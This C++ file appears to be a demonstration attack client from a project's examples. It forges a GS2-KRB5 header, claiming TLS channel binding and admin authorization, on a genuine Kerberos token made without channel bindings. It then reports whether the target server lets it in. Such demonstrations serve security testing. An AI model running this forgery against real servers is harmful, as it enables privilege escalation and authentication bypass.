// SPDX-License-Identifier: BSD-2-Clause
//
// The attack that requirement G10 is about. A Kerberos token that was made without channel bindings
// (by a client that knows nothing of them, for another purpose) says nothing about the GS2 header
// in front of it. An attacker that holds such a token can write any header: "bound to this TLS
// channel, and I want to be admin". MIT krb5 accepts the token and only leaves
// GSS_C_CHANNEL_BOUND_FLAG clear; a server that does not look at that flag lets the attacker in.

#include <gssapi/gssapi.h>
#include <gssapi/gssapi_krb5.h>

#include <memory>

#include "examples/demo/wire.h"

namespace {

constexpr char kService[] = "imap";
constexpr char kMechanism[] = "GS2-KRB5";
constexpr char kUsage[] =
    "Usage: forger HOST PORT [HEADER]\n"
    "HEADER is the GS2 header to forge (default: p=tls-exporter,a=admin,)\n"
    "Exit status: 0 the server refused, 1 the server let the forger in, 2 the attack could not be "
    "tried.\n";

struct Options {
  std::string host;
  std::string port;
  std::string header = "p=tls-exporter,a=admin,";
};

struct NameDeleter {
  void operator()(gss_name_t name) const {
    OM_uint32 ignored = 0;
    gss_release_name(&ignored, &name);
  }
};
using Name = std::unique_ptr<gss_name_struct, NameDeleter>;

void print_error(const char* call, OM_uint32 major, OM_uint32 minor) {
  const std::pair<OM_uint32, int> codes[] = {{major, GSS_C_GSS_CODE}, {minor, GSS_C_MECH_CODE}};
  for (const auto& [code, type] : codes) {
    OM_uint32 ignored = 0;
    OM_uint32 more = 0;
    gss_buffer_desc text = GSS_C_EMPTY_BUFFER;
    if (gss_display_status(&ignored, code, type, gss_mech_krb5, &more, &text) != GSS_S_COMPLETE) {
      continue;
    }
    std::fprintf(stderr, "forger: %s: %.*s\n", call, static_cast<int>(text.length),
                 static_cast<const char*>(text.value));
    gss_release_buffer(&ignored, &text);
  }
}

// A token of the kind that any Kerberos client makes: mutual authentication, no channel bindings.
std::optional<std::string> unbound_token(const Options& options) {
  std::string text = std::string(kService) + "@" + options.host;
  gss_buffer_desc name_text = {text.size(), text.data()};
  gss_name_t imported = GSS_C_NO_NAME;
  OM_uint32 minor = 0;
  OM_uint32 major = gss_import_name(&minor, &name_text, GSS_C_NT_HOSTBASED_SERVICE, &imported);
  if (major != GSS_S_COMPLETE) {
    print_error("gss_import_name", major, minor);
    return std::nullopt;
  }
  const Name target(imported);
  gss_ctx_id_t context = GSS_C_NO_CONTEXT;
  gss_buffer_desc token = GSS_C_EMPTY_BUFFER;
  OM_uint32 flags = 0;
  // The flags of an ordinary client: nothing but the missing bindings tells this token from others.
  constexpr OM_uint32 kWanted = GSS_C_MUTUAL_FLAG | GSS_C_REPLAY_FLAG | GSS_C_SEQUENCE_FLAG |
                                GSS_C_INTEG_FLAG | GSS_C_CONF_FLAG;
  major = gss_init_sec_context(&minor, GSS_C_NO_CREDENTIAL, &context, target.get(), gss_mech_krb5,
                               kWanted, 0, GSS_C_NO_CHANNEL_BINDINGS, GSS_C_NO_BUFFER, nullptr,
                               &token, &flags, nullptr);
  std::optional<std::string> result;
  if (major == GSS_S_CONTINUE_NEEDED) {
    result.emplace(static_cast<const char*>(token.value), token.length);
  } else {
    print_error("gss_init_sec_context", major, minor);
  }
  gss_release_buffer(&minor, &token);
  gss_delete_sec_context(&minor, &context, GSS_C_NO_BUFFER);
  return result;
}

// Takes off what GS2 does not send: 0x60, the length, and the mechanism's OID (RFC 2743
// section 3.1).
std::optional<std::string> without_framing(const std::string& token) {
  const auto octet = [&token](std::size_t i) { return static_cast<unsigned char>(token[i]); };
  if (token.size() < 4 || octet(0) != 0x60) return std::nullopt;
  const std::size_t num_len_octets = octet(1) < 0x80 ? 1 : 1 + (octet(1) & 0x7fu);
  const std::size_t oid = 1 + num_len_octets;
  if (oid + 2 > token.size() || octet(oid) != 0x06) return std::nullopt;
  const std::size_t end = oid + 2 + octet(oid + 1);
  if (end > token.size()) return std::nullopt;
  return token.substr(end);
}

int check_answer(const std::optional<demo::Frame>& frame) {
  if (frame && frame->kind == demo::Kind::kSuccess) {
    std::printf("forger  LET IN: the server believes the forged header\n");
    return 1;
  }
  if (frame && frame->kind == demo::Kind::kFailure) {
    std::printf("forger  REFUSED, the server says: %s\n", frame->body.c_str());
    return 0;
  }
  std::fprintf(stderr, "forger: the server closed the connection without an answer\n");
  return 2;
}

int attack(int fd, const Options& options) {
  const std::optional<demo::Frame> greeting = demo::receive_frame(fd);
  if (!greeting || greeting->kind != demo::Kind::kMechanisms) {
    std::fprintf(stderr, "forger: the server offers no mechanism\n");
    return 2;
  }
  const std::optional<std::string> token = unbound_token(options);
  if (!token) return 2;
  std::printf(
      "forger    has a genuine Kerberos token of %zu bytes, made without channel bindings\n",
      token->size());
  const std::optional<std::string> body = without_framing(*token);
  if (!body) {
    std::fprintf(stderr, "forger: the token does not have the form of RFC 2743\n");
    return 2;
  }
  const std::string message = options.header + *body;
  std::printf("forger    adds the header \"%s\" and sends %s and %zu bytes\n",
              options.header.c_str(), kMechanism, message.size());
  demo::send_frame(
      fd, demo::Kind::kStart,
      std::string(kMechanism) + '\0' +
          demo::encode_optional(message.data(), static_cast<unsigned>(message.size())));
  std::optional<demo::Frame> frame = demo::receive_frame(fd);
  // A challenge may be an error token, after which the server fails whatever comes back.
  for (int i = 0; i < 4 && frame && frame->kind == demo::Kind::kChallenge; ++i) {
    std::printf("forger    got a challenge of %zu bytes, sends an empty response\n",
                frame->body.size());
    demo::send_frame(fd, demo::Kind::kResponse, "");
    frame = demo::receive_frame(fd);
  }
  return check_answer(frame);
}

Options parse(int argc, char** argv) {
  if (argc != 3 && argc != 4) {
    std::fputs(kUsage, stderr);
    std::exit(2);
  }
  Options options{argv[1], argv[2]};
  if (argc == 4) options.header = argv[3];
  return options;
}

}  // namespace

int main(int argc, char** argv) {
  // Whole lines at once: forger and server often share a terminal.
  std::setvbuf(stdout, nullptr, _IOLBF, 0);
  const Options options = parse(argc, argv);
  const demo::Socket server = demo::connect_to(options.host, options.port);
  return server.is_open() ? attack(server.fd(), options) : 2;
}
